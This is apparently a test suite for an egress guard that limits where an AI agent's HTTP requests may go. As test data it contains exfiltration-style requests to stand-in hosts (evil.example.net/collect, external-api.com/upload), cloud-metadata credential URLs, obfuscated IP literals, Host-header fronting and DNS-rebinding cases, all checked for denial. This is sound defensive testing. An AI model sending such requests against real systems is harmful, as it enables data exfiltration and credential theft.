/**
 * The guard with real undici against real loopback servers. "Public" names are served on
 * loopback: the injected resolver answers 127.0.0.1 and the destination is declared
 * `internal` (real public DNS is unreachable here); undeclared or non-internal names that
 * resolve to loopback show the connect-time check.
 */
import type { ServerResponse } from 'node:http'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Agent, Client, fetch, interceptors, request, type Dispatcher } from 'undici'
import { MemoryAuditLog } from 'agent-trust'
import { createAuditLog } from 'agent-trust/audit'
import { createEgressAgent, createEgressConnector, createEgressGuard, installGlobalEgress } from 'agent-trust/egress'
import {
  redirectTo,
  scriptedResolver,
  selfSignedCert,
  startHttpsServer,
  startServer,
  type TestCert,
  type TestServer,
} from '../support/egress.js'
import { expectOptionMisuse, HOSTILE_KEY, HOSTILE_KEY_PATH } from '../support/options.js'

let ok: TestServer
let evil: TestServer
let toEvil: TestServer
let toEvilLiteral: TestServer
let toMetadata: TestServer
let toMetadataName: TestServer
let toSameHost: TestServer
let secure: TestServer
let secureToPlain: TestServer
let cert: TestCert

const resolver = scriptedResolver({
  'api.example.com': ['127.0.0.1'],
  'evil.example.net': ['127.0.0.1'],
  'private-only.example.com': ['10.0.0.1'],
  'loopback.example.com': ['127.0.0.1'],
  'mixed.example.com': ['93.184.216.34', '127.0.0.1'],
  'metadata.example.com': ['169.254.169.254'],
  'metadata6.example.com': ['fd00:ec2::254'],
  'mapped.example.com': ['::ffff:127.0.0.1'],
  'nat64.example.com': ['64:ff9b::7f00:1'],
  'empty.example.com': [],
})

const json = (body: unknown) => (_req: unknown, res: ServerResponse) => {
  res.setHeader('content-type', 'application/json')
  res.end(JSON.stringify(body))
}

beforeAll(async () => {
  cert = await selfSignedCert(['api.example.com'])
  ok = await startServer(json({ ok: true }))
  evil = await startServer(json({ stolen: true }))
  toEvil = await startServer((_q, s) => redirectTo(`http://evil.example.net:${evil.port}/collect`)(_q, s))
  toEvilLiteral = await startServer((_q, s) => redirectTo(`http://127.0.0.1:${evil.port}/collect`)(_q, s))
  toMetadata = await startServer(redirectTo('http://169.254.169.254/latest/meta-data/iam/security-credentials/'))
  toMetadataName = await startServer((_q, s) => redirectTo(`http://metadata.example.com:${ok.port}/latest/meta-data/`)(_q, s))
  toSameHost = await startServer((req, s) => (req.url === '/final' ? json({ final: true })(req, s) : redirectTo('/final', 301)(req, s)))
  secure = await startHttpsServer(cert, json({ secure: true }))
  // Same host and port, scheme downgraded: only https is declared there.
  secureToPlain = await startHttpsServer(cert, (_q, s) => redirectTo(`http://api.example.com:${secure.port}/downgraded`)(_q, s))
})

afterAll(async () => {
  for (const s of [ok, evil, toEvil, toEvilLiteral, toMetadata, toMetadataName, toSameHost, secure, secureToPlain]) await s?.close()
})

function declared(...extra: string[]): string[] {
  return [
    `http://api.example.com:${ok.port} internal`,
    `http://api.example.com:${toEvil.port} internal`,
    `http://api.example.com:${toEvilLiteral.port} internal`,
    `http://api.example.com:${toMetadata.port} internal`,
    `http://api.example.com:${toMetadataName.port} internal`,
    `http://api.example.com:${toSameHost.port} internal`,
    `https://api.example.com:${secureToPlain.port} internal`,
    `https://api.example.com:${secure.port} internal`,
    ...extra,
  ]
}

function agentFor(options: Partial<Parameters<typeof createEgressAgent>[0]> = {}): Dispatcher {
  return createEgressAgent({
    agentId: 'agent-summarizer-v2',
    trustLevel: 'L2',
    egress: declared(),
    resolver,
    mode: 'enforce',
    maxRedirections: 3,
    connect: { ca: cert.cert, timeout: 2_000 },
    ...options,
  })
}

async function denial(p: Promise<unknown>): Promise<{ code?: string; details?: Record<string, unknown>; message?: string }> {
  try {
    await p
  } catch (e) {
    const err = e as { code?: string; cause?: unknown }
    // fetch wraps dispatcher errors in TypeError('fetch failed') with the cause.
    return (err.code === undefined && err.cause !== undefined ? err.cause : err) as { code?: string }
  }
  throw new Error('expected a denial')
}

describe('allowed destinations', () => {
  it('reaches a declared destination through the injected resolver (request and fetch)', async () => {
    const d = agentFor()
    const r = await request(`http://api.example.com:${ok.port}/docs`, { dispatcher: d })
    expect(r.statusCode).toBe(200)
    expect(await r.body.json()).toEqual({ ok: true })
    const f = await fetch(`http://API.example.com.:${ok.port}/docs`, { dispatcher: d })
    expect(await f.json()).toEqual({ ok: true })
    await d.close()
  })

  it('reaches a declared IP literal without any lookup', async () => {
    const d = agentFor({ egress: [`http://127.0.0.1:${ok.port}`] })
    const before = resolver.calls.length
    const r = await request(`http://127.0.0.1:${ok.port}/`, { dispatcher: d })
    expect(r.statusCode).toBe(200)
    await r.body.dump()
    // Same address in another spelling: it is the declared address.
    const r2 = await request(`http://0x7f.1:${ok.port}/`, { dispatcher: d })
    expect(r2.statusCode).toBe(200)
    await r2.body.dump()
    expect(resolver.calls.length).toBe(before)
    await d.close()
  })

  it('speaks TLS to a declared https destination (certificate checked for the name)', async () => {
    const d = agentFor()
    const r = await request(`https://api.example.com:${secure.port}/`, { dispatcher: d })
    expect(await r.body.json()).toEqual({ secure: true })
    await d.close()
  })

  it('follows a same-host redirect, checking each hop', async () => {
    const audit = new MemoryAuditLog()
    const d = agentFor({ audit })
    const r = await request(`http://api.example.com:${toSameHost.port}/start`, { dispatcher: d, maxRedirections: 3 } as Parameters<
      typeof request
    >[1])
    expect(await r.body.json()).toEqual({ final: true })
    expect(audit.events.filter((e) => e.note?.startsWith('request')).length).toBe(2)
    await d.close()
  })
})

describe('denied before any byte leaves', () => {
  it('an undeclared host (the seed attack: external-api.com)', async () => {
    const d = agentFor()
    const e = await denial(request('https://external-api.com/upload', { dispatcher: d, method: 'POST', body: 'all the documents' }))
    expect(e).toMatchObject({
      code: 'ERR_EGRESS_DENIED',
      details: { host: 'external-api.com', rule: 'not-declared', agentId: 'agent-summarizer-v2' },
    })
    await d.close()
  })

  it('undeclared ports and schemes, IP literals, metadata literals', async () => {
    const d = agentFor()
    const cases: Array<[string, string]> = [
      [`http://api.example.com:${evil.port}/`, 'not-declared'],
      [`https://api.example.com:${ok.port}/`, 'not-declared'],
      [`http://127.0.0.1:${evil.port}/`, 'ip-literal'],
      [`http://2130706433:${evil.port}/`, 'ip-literal'],
      [`http://0x7f.1:${evil.port}/`, 'ip-literal'],
      [`http://127.1:${evil.port}/`, 'ip-literal'],
      [`http://[::1]:${evil.port}/`, 'ip-literal'],
      [`http://[::ffff:127.0.0.1]:${evil.port}/`, 'ip-literal'],
      ['http://169.254.169.254/latest/meta-data/', 'ip-literal'],
      ['http://[fd00:ec2::254]/latest/meta-data/', 'ip-literal'],
      [`http://evil.example.net:${evil.port}/`, 'not-declared'],
    ]
    for (const [url, rule] of cases) {
      expect(await denial(request(url, { dispatcher: d })), url).toMatchObject({ code: 'ERR_EGRESS_DENIED', details: { rule } })
      expect(await denial(fetch(url, { dispatcher: d })), url).toMatchObject({ code: 'ERR_EGRESS_DENIED', details: { rule } })
    }
    expect(evil.seen).toHaveLength(0)
    await d.close()
  })

  it('a Host header naming another site (domain fronting) and an absolute-form path', async () => {
    const d = agentFor()
    expect(
      await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: d, headers: { host: 'evil.example.net' } })),
    ).toMatchObject({ details: { rule: 'host-header' } })
    expect(
      await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: d, headers: [['Host', 'api.example.com:1']] })),
    ).toMatchObject({ details: { rule: 'host-header' } })
    // Shapes the guard and undici could read differently are refused: undici reads every array
    // flat, so `[['accept'], '*/*', 'host', 'evil']` carries host: evil to the declared server.
    for (const headers of [
      [['accept'], '*/*', 'host', 'evil.example.net'],
      ['host', 'evil.example.net', 'x-odd'],
      [[{ toString: () => 'host' }, 'evil.example.net']],
      new Map<unknown, unknown>([[{ toString: () => 'host' }, 'evil.example.net']]),
    ])
      expect(
        await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: d, headers: headers as never })),
        JSON.stringify([...(headers as Iterable<unknown>)]),
      ).toMatchObject({ details: { rule: 'host-header' } })
    expect(evil.seen).toHaveLength(0)
    const r = await request(`http://api.example.com:${ok.port}/`, { dispatcher: d, headers: { Host: `API.example.com:${ok.port}` } })
    expect(r.statusCode).toBe(200)
    await r.body.dump()
    expect(
      await denial(
        d.request({ origin: `http://api.example.com:${ok.port}`, path: `http://evil.example.net:${evil.port}/`, method: 'GET' }),
      ),
    ).toMatchObject({ details: { rule: 'path' } })
    expect(evil.seen).toHaveLength(0)
    await d.close()
  })

  it('reports a denial through the handler, never by throwing from dispatch', async () => {
    const d = agentFor()
    const got = await new Promise<{ returned: boolean; err: Error }>((resolve) => {
      let returned = true
      const handler: Dispatcher.DispatchHandler = {
        onRequestStart: () => undefined,
        onResponseError: (_c, err) => queueMicrotask(() => resolve({ returned, err })),
      }
      returned = d.dispatch({ origin: 'https://external-api.com', path: '/', method: 'GET' }, handler)
    })
    expect(got.returned).toBe(false)
    expect(got.err).toMatchObject({ code: 'ERR_EGRESS_DENIED' })
    await d.close()
  })

  it('uses onError for a legacy handler when the guard is called without compose', async () => {
    const plain = new Agent()
    const dispatch = createEgressGuard({ agentId: 'a', trustLevel: 'L2', egress: [], mode: 'enforce' })(plain.dispatch.bind(plain))
    const errors: Error[] = []
    const returned = dispatch({ origin: 'https://external-api.com', path: '/', method: 'GET' }, {
      onError: (e: Error) => errors.push(e),
    } as Dispatcher.DispatchHandler)
    expect(returned).toBe(false)
    expect(errors).toMatchObject([{ code: 'ERR_EGRESS_DENIED', details: { rule: 'empty-allowlist' } }])
    await plain.close()
  })
})

describe('connect time: every resolved address, the socket uses exactly those', () => {
  it.each([
    ['private-only.example.com', 'private'],
    ['loopback.example.com', 'loopback'],
    ['mixed.example.com', 'loopback'],
    ['metadata.example.com', 'metadata'],
    ['metadata6.example.com', 'metadata'],
    ['mapped.example.com', 'ipv4Embedded'],
    ['nat64.example.com', 'ipv4Embedded'],
  ])('%s is denied (%s)', async (host, cls) => {
    // Declared, even `internal`: metadata and embedded forms never pass; without `internal`
    // nothing but global unicast passes.
    const internal = cls === 'metadata' || cls === 'ipv4Embedded'
    const d = agentFor({ egress: [`http://${host}:${ok.port}${internal ? ' internal' : ''}`] })
    const e = await denial(request(`http://${host}:${ok.port}/`, { dispatcher: d }))
    expect(e).toMatchObject({ code: 'ERR_EGRESS_DENIED', details: { rule: 'address', host, addressClass: cls } })
    await d.close()
  })

  it('a name that resolves to nothing is denied', async () => {
    const d = agentFor({ egress: [`http://empty.example.com:${ok.port}`] })
    expect(await denial(request(`http://empty.example.com:${ok.port}/`, { dispatcher: d }))).toMatchObject({
      details: { rule: 'resolve-failed' },
    })
    await d.close()
  })

  it('DNS rebinding: each new socket uses the answer checked for it (a name flipping to metadata is caught)', async () => {
    let n = 0
    const flipping = async () => [{ address: n++ === 0 ? '127.0.0.1' : '169.254.169.254' }]
    const d = agentFor({ egress: [`http://rebind.example.com:${ok.port} internal`], resolver: flipping })
    // `reset` closes the socket after the response, so the second request needs a new one.
    const first = await request(`http://rebind.example.com:${ok.port}/`, { dispatcher: d, reset: true })
    expect(await first.body.json()).toEqual({ ok: true })
    const second = await denial(request(`http://rebind.example.com:${ok.port}/`, { dispatcher: d, reset: true }))
    expect(second).toMatchObject({ code: 'ERR_EGRESS_DENIED', details: { rule: 'address', addressClass: 'metadata' } })
    expect(n).toBe(2)
    await d.close()
  })
})

describe('redirects: every hop', () => {
  const via = ['request', 'fetch'] as const
  const go = (kind: (typeof via)[number], url: string, d: Dispatcher) =>
    kind === 'request'
      ? request(url, { dispatcher: d, maxRedirections: 3 } as Parameters<typeof request>[1])
      : fetch(url, { dispatcher: d })

  it.each(via)('to an undeclared host (%s)', async (kind) => {
    const d = agentFor()
    expect(await denial(go(kind, `http://api.example.com:${toEvil.port}/`, d))).toMatchObject({
      code: 'ERR_EGRESS_DENIED',
      details: { host: 'evil.example.net', rule: 'not-declared' },
    })
    expect(await denial(go(kind, `http://api.example.com:${toEvilLiteral.port}/`, d))).toMatchObject({
      details: { host: '127.0.0.1', rule: 'ip-literal' },
    })
    expect(evil.seen).toHaveLength(0)
    await d.close()
  })

  it.each(via)('to the metadata endpoint, as a literal and as a name (%s)', async (kind) => {
    const d = agentFor({ egress: [...declared(), `http://metadata.example.com:${ok.port} internal`] })
    expect(await denial(go(kind, `http://api.example.com:${toMetadata.port}/`, d))).toMatchObject({
      details: { host: '169.254.169.254', rule: 'ip-literal' },
    })
    expect(await denial(go(kind, `http://api.example.com:${toMetadataName.port}/`, d))).toMatchObject({
      details: { rule: 'address', addressClass: 'metadata' },
    })
    await d.close()
  })

  it.each(via)('from https to http (%s)', async (kind) => {
    const d = agentFor()
    expect(await denial(go(kind, `https://api.example.com:${secureToPlain.port}/`, d))).toMatchObject({
      details: { host: 'api.example.com', rule: 'not-declared' },
    })
    expect(secure.seen.some((s) => s.url === '/downgraded')).toBe(false)
    await d.close()
  })
})

describe('interceptor order (compose: the last one listed is the outermost)', () => {
  const opts = () => ({
    agentId: 'a',
    trustLevel: 'L2' as const,
    egress: [`http://127.0.0.1:${toEvilLiteral.port}`],
    mode: 'enforce' as const,
  })

  it('guard listed before redirect sees every hop', async () => {
    const d = new Agent().compose(createEgressGuard(opts()), interceptors.redirect({ maxRedirections: 3 }))
    const before = evil.seen.length
    expect(await denial(request(`http://127.0.0.1:${toEvilLiteral.port}/`, { dispatcher: d }))).toMatchObject({
      details: { rule: 'ip-literal' },
    })
    expect(evil.seen.length).toBe(before)
    await d.close()
  })

  it('guard listed after redirect sees only the first hop: the redirect escapes (why the order is pinned)', async () => {
    const d = new Agent().compose(interceptors.redirect({ maxRedirections: 3 }), createEgressGuard(opts()))
    const before = evil.seen.length
    const r = await request(`http://127.0.0.1:${toEvilLiteral.port}/`, { dispatcher: d })
    expect(await r.body.json()).toEqual({ stolen: true })
    expect(evil.seen.length).toBe(before + 1)
    evil.seen.length = before
    await d.close()
  })

  it('the egress connector still stops the escaped hop at connect time', async () => {
    const d = new Agent({ connect: createEgressConnector(opts()) }).compose(
      interceptors.redirect({ maxRedirections: 3 }),
      createEgressGuard(opts()),
    )
    expect(await denial(request(`http://127.0.0.1:${toEvilLiteral.port}/`, { dispatcher: d }))).toMatchObject({
      details: { rule: 'ip-literal' },
    })
    expect(evil.seen).toHaveLength(0)
    await d.close()
  })

  it('createEgressAgent composes it right, and composing more on top keeps the guard inside', async () => {
    const d = agentFor().compose(interceptors.redirect({ maxRedirections: 3 }))
    expect(await denial(request(`http://api.example.com:${toEvil.port}/`, { dispatcher: d }))).toMatchObject({
      details: { rule: 'not-declared' },
    })
    await d.close()
  })

  it('a Client with the egress connector alone denies undeclared sockets', async () => {
    const c = new Client(`http://127.0.0.1:${evil.port}`, { connect: createEgressConnector(opts()) })
    expect(await denial(c.request({ path: '/', method: 'GET' }))).toMatchObject({ details: { rule: 'ip-literal' } })
    await c.close()
  })
})

describe('trust levels', () => {
  it('L1 may GET and HEAD declared destinations, nothing else', async () => {
    const d = agentFor({ trustLevel: 'L1' })
    const r = await request(`http://api.example.com:${ok.port}/`, { dispatcher: d })
    await r.body.dump()
    const h = await request(`http://api.example.com:${ok.port}/`, { dispatcher: d, method: 'HEAD' })
    await h.body.dump()
    expect([r.statusCode, h.statusCode]).toEqual([200, 200])
    for (const method of ['POST', 'PUT', 'DELETE', 'PATCH'] as const) {
      expect(await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: d, method, body: 'x' }))).toMatchObject({
        details: { rule: 'method' },
      })
    }
    await d.close()
  })

  it('L0 and an empty allowlist reach nothing', async () => {
    const l0 = agentFor({ trustLevel: 'L0' })
    expect(await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: l0 }))).toMatchObject({
      details: { rule: 'trust-level' },
    })
    await l0.close()
    const empty = agentFor({ egress: [] })
    expect(await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: empty }))).toMatchObject({
      details: { rule: 'empty-allowlist' },
    })
    await empty.close()
  })
})

describe('audit, modes, options', () => {
  it('records every decision without paths, queries, headers or bodies', async () => {
    const audit = new MemoryAuditLog()
    const d = agentFor({ audit })
    const r = await request(`http://api.example.com:${ok.port}/private/path?token=SECRET-QUERY`, {
      dispatcher: d,
      headers: { 'x-api-key': 'SECRET-HEADER' },
    })
    await r.body.dump()
    await denial(request('https://external-api.com/upload?token=SECRET-QUERY', { dispatcher: d, method: 'POST', body: 'SECRET-BODY' }))
    await d.close()
    const egress = audit.events.filter((e) => e.action === 'egress')
    expect(egress.map((e) => [e.decision, e.code, e.destination])).toEqual([
      ['allow', undefined, `http://api.example.com:${ok.port}`],
      ['allow', undefined, 'api.example.com'],
      ['deny', 'ERR_EGRESS_DENIED', 'https://external-api.com:443'],
    ])
    expect(egress.every((e) => e.origin === 'agent-summarizer-v2' && e.trustLevel === 'L2' && e.enforced === true)).toBe(true)
    expect(JSON.stringify(audit.events)).not.toMatch(/SECRET|private\/path|upload/)
  })

  it("an audit log with onAuditFailure 'deny' whose trail cannot be written stops every request (ERR_AUDIT_UNAVAILABLE), until a write succeeds", async () => {
    let broken = true
    const sink = {
      name: 'flaky',
      async write() {
        if (broken) throw new Error('disk full')
      },
      async close() {},
    }
    const audit = createAuditLog({ sinks: [sink], flushIntervalMs: 5, onAuditFailure: 'deny', onError: () => undefined })
    const d = agentFor({ audit })
    audit.record({ action: 'mode', decision: 'allow' })
    while (audit.stats().writable) await new Promise((r) => setTimeout(r, 5))
    const before = ok.seen.length
    expect(await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: d }))).toMatchObject({ code: 'ERR_AUDIT_UNAVAILABLE' })
    expect(ok.seen.length).toBe(before)
    broken = false
    while (!audit.stats().writable) await new Promise((r) => setTimeout(r, 5))
    const r = await request(`http://api.example.com:${ok.port}/`, { dispatcher: d })
    expect(await r.body.json()).toEqual({ ok: true })
    await d.close()
    await audit.close()
  })

  it('audit mode logs the denial and lets the request through', async () => {
    const audit = new MemoryAuditLog()
    const d = agentFor({ audit, mode: 'audit' })
    const before = evil.seen.length
    const r = await request(`http://evil.example.net:${evil.port}/`, { dispatcher: d })
    expect(await r.body.json()).toEqual({ stolen: true })
    expect(evil.seen.length).toBe(before + 1)
    evil.seen.length = before
    expect(audit.events.filter((e) => e.decision === 'deny').every((e) => e.enforced === false)).toBe(true)
    expect(audit.events.some((e) => e.decision === 'deny' && e.note?.includes('not-declared'))).toBe(true)
    expect(audit.events.some((e) => e.decision === 'deny' && e.note?.includes('address'))).toBe(true)
    await d.close()
  })

  it('off mode checks nothing and records nothing', async () => {
    const audit = new MemoryAuditLog()
    const d = createEgressAgent({ agentId: 'a', trustLevel: 'L0', egress: [], audit, mode: 'off' })
    const before = evil.seen.length
    const r = await request(`http://127.0.0.1:${evil.port}/`, { dispatcher: d })
    await r.body.dump()
    expect(evil.seen.length).toBe(before + 1)
    evil.seen.length = before
    expect(audit.events).toHaveLength(0)
    await d.close()
  })

  it('refuses options that would bypass the checks', () => {
    const base = { agentId: 'a', trustLevel: 'L2' as const, egress: [], mode: 'enforce' as const }
    for (const connect of [{ lookup: () => undefined }, { socketPath: '/tmp/x.sock' }]) {
      expect(() => createEgressAgent({ ...base, connect: connect as never })).toThrow(
        expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }),
      )
    }
    expect(() => createEgressAgent({ ...base, agentOptions: { connect: {} } as never })).toThrow(
      expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }),
    )
    expect(() => createEgressAgent({ ...base, agentId: '' })).toThrow(expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }))
    expect(() => createEgressAgent({ ...base, mode: 'loose' as never })).toThrow(expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }))
    expect(() => createEgressAgent({ ...base, egress: ['https://*'] })).toThrow(expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }))
  })
})

describe('egress factories', () => {
  it('validates its options', async () => {
    const base = { agentId: 'a', trustLevel: 'L2' as const, egress: [], mode: 'enforce' as const }
    const key = '-----BEGIN PRIVATE KEY-----\nconnect-tls-secret\n-----END PRIVATE KEY-----'
    await expectOptionMisuse(() => createEgressAgent({ ...base, trustLevel: 'L9' as never }), { path: 'trustLevel' })
    await expectOptionMisuse(() => createEgressAgent({ ...base, agentId: undefined as never }), { path: 'agentId' })
    await expectOptionMisuse(() => createEgressAgent({ ...base, maxRedirections: 21 }), { path: 'maxRedirections' })
    await expectOptionMisuse(() => createEgressAgent({ ...base, egres: ['https://a.example'] } as never), { path: 'egres' })
    await expectOptionMisuse(() => createEgressAgent({ ...base, connect: { key, lookup: () => undefined } as never }), {
      path: 'connect.lookup',
      secrets: ['connect-tls-secret'],
    })
    await expectOptionMisuse(() => createEgressAgent({ ...base, agentOptions: { factory: () => undefined } as never }), {
      path: 'agentOptions.factory',
    })
    await expectOptionMisuse(() => createEgressAgent({ ...base, [HOSTILE_KEY]: 1 } as never), { path: HOSTILE_KEY_PATH })
    await expectOptionMisuse(() => createEgressGuard({ ...base, resolver: () => [] } as never), { path: 'resolver' })
    await expectOptionMisuse(() => createEgressGuard({ ...base, audit: {} as never }), { path: 'audit' })
    await expectOptionMisuse(() => createEgressConnector({ ...base, resolver: 'dns' as never }), { path: 'resolver' })
    // Documented pass-through: node TLS and undici Agent options reach them unchanged.
    await createEgressAgent({ ...base, connect: { rejectUnauthorized: true }, agentOptions: { connections: 2 } }).close()
  })
})

describe('installGlobalEgress (opt-in, for global fetch)', () => {
  it("guards Node's built-in fetch and puts the previous dispatcher back", async () => {
    const installed = installGlobalEgress({
      agentId: 'a',
      trustLevel: 'L2',
      egress: [`http://api.example.com:${ok.port} internal`],
      resolver,
      mode: 'enforce',
    })
    try {
      const r = await globalThis.fetch(`http://api.example.com:${ok.port}/global`)
      expect(await r.json()).toEqual({ ok: true })
      expect(await denial(globalThis.fetch(`http://127.0.0.1:${evil.port}/`))).toMatchObject({ code: 'ERR_EGRESS_DENIED' })
      expect(await denial(globalThis.fetch('https://external-api.com/'))).toMatchObject({ code: 'ERR_EGRESS_DENIED' })
    } finally {
      await installed.uninstall()
    }
    const r = await globalThis.fetch(`http://127.0.0.1:${evil.port}/`)
    expect(r.status).toBe(200)
    await r.text()
    evil.seen.length = 0
  })
})
